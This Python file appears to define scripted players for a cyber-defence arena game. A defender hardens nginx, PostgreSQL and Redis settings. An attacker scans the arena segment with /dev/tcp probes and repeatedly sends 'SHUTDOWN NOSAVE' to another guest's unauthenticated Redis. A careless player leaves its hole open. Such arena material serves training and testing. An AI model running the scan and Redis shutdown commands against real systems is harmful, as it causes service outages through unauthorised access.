"""Scripted players of First Contact (ARENAS §5): a defender, an attacker and a careless courier.

Every command runs as root in the player's own guest over SSH; attacks go
from there over the arena segment (10.77.0.0/24), never from the host. The
role is the guest's hostname (= territory id), so one plan fits any seat.
- `contact-defender`: reads its stack, closes its own hole (gatekeeper: PUT
  /routes only from loopback; archivist: no trust from the segment; courier:
  Redis on loopback with protected mode) and then keeps its health up with
  the oracle's repairs until the match ends.
- `contact-attacker`: defends like the defender, then finds the courier's
  open Redis on 10.77.0.12:6379 and shuts it down (`SHUTDOWN NOSAVE`), again
  whenever it is back, while it keeps its own health.
- `contact-careless`: watches its own health and repairs nothing; its Redis
  stays open to the segment (the classic mistake).
"""

from __future__ import annotations

from aoe_tui.agents.scripted.base import Plan, Step

HEALTH = "curl -s -m 2 -o /dev/null -w '%{http_code}' http://127.0.0.1:8080/health"
TOKEN = "curl -s -m 2 http://127.0.0.1:8080/health"
COURIER = "10.77.0.12"
WATCH_ROUNDS = 150  # two seconds each: longer than the 300 s match

_LOOK = Step(
    f"hostname; ip -br addr; ss -Hltn; systemctl --no-pager is-active nginx postgresql redis-server "
    f"gatekeeper-app archivist-app courier-worker courier-app 2>/dev/null; {TOKEN}; echo",
    "Investigate the stack, the segment and the health endpoint",
    2.0,
)

_CLOSE_HOLE = Step(
    """case "$(hostname)" in
gatekeeper)
  site=/etc/nginx/sites-available/gatekeeper
  grep -q 'aoe-defended' "$site" || sed -i 's|    location / {|    # aoe-defended: route changes only from this host\\n    location /routes/ {\\n        limit_except GET { allow 127.0.0.1; deny all; }\\n        proxy_pass http://127.0.0.1:9000;\\n    }\\n    location / {|' "$site"
  nginx -t && systemctl reload nginx ;;
archivist)
  hba=/etc/postgresql/15/main/pg_hba.conf
  sed -i 's|^host    empire  all     10.77.0.0/24    trust|host    empire  all     10.77.0.0/24    reject|' "$hba"
  systemctl reload postgresql ;;
courier)
  sed -i 's|^bind \\* -::\\*$|bind 127.0.0.1 -::1|; s|^protected-mode no$|protected-mode yes|' /etc/redis/redis.conf
  systemctl restart redis-server ;;
esac; sleep 1; """
    + TOKEN,
    "Close this territory's own hole",
    2.0,
)

_REPAIR = """case "$(hostname)" in
gatekeeper) printf 'checkout\\n' > /var/lib/gatekeeper/route; systemctl restart gatekeeper-app nginx ;;
archivist) psql -h 127.0.0.1 -U arena -d empire -qc "create table if not exists empire_state (key text primary key, value text not null); insert into empire_state values ('status', 'archivist:ok') on conflict (key) do update set value = excluded.value"; systemctl restart archivist-app ;;
courier) systemctl restart redis-server courier-worker courier-app; redis-cli set empire:alive courier EX 5 ;;
esac"""


def _watch(repair: bool, attack: bool) -> Step:
    strike = (
        f"redis-cli -h {COURIER} -p 6379 ping 2>/dev/null | grep -q PONG && "
        f"redis-cli -h {COURIER} -p 6379 shutdown nosave 2>&1 | head -c 200 && echo ' courier redis shut down'; "
        if attack
        else ""
    )
    mend = f'[ "$code" = 200 ] || {{ {_REPAIR}; }} >/dev/null 2>&1; ' if repair else ""
    return Step(
        f"for i in $(seq {WATCH_ROUNDS}); do {strike}code=$({HEALTH}); {mend}printf '%s ' \"$code\"; sleep 2; done",
        "Keep the health token up" + (" and strike the courier's open Redis" if attack else ""),
        1.0,
    )


_SCOUT = Step(
    f"for ip in 10.77.0.10 10.77.0.11 {COURIER}; do for port in 8080 5432 6379; do "
    f'timeout 2 bash -c "echo > /dev/tcp/$ip/$port" 2>/dev/null && echo "$ip:$port open"; done; done; '
    f"redis-cli -h {COURIER} -p 6379 ping",
    "Scan the segment for the others' services",
    2.0,
)

_STRIKE = Step(
    f"for i in $(seq 30); do redis-cli -h {COURIER} -p 6379 ping 2>/dev/null | grep -q PONG && break; sleep 1; done; "
    f"redis-cli -h {COURIER} -p 6379 info server 2>&1 | grep -m1 redis_version; "
    f"redis-cli -h {COURIER} -p 6379 shutdown nosave 2>&1 | head -c 200; "
    f"sleep 1; redis-cli -h {COURIER} -p 6379 ping 2>&1 | grep -q PONG || echo 'courier redis shut down'",
    "Shut down the courier's unauthenticated Redis over the segment",
    1.0,
)

CONQUEST_PLANS: dict[str, Plan] = {
    "contact-defender": Plan(
        "contact-defender",
        "conquest",
        "closed this territory's hole and kept its health token up",
        (_LOOK, _CLOSE_HOLE, _watch(repair=True, attack=False)),
    ),
    "contact-attacker": Plan(
        "contact-attacker",
        "conquest",
        "closed this territory's hole, kept its health up and shut down the courier's open Redis",
        (_LOOK, _CLOSE_HOLE, _SCOUT, _STRIKE, _watch(repair=True, attack=True)),
    ),
    "contact-careless": Plan(
        "contact-careless",
        "conquest",
        "watched the health endpoint (Redis left open to the network)",
        (_LOOK, _watch(repair=False, attack=False)),
    ),
}
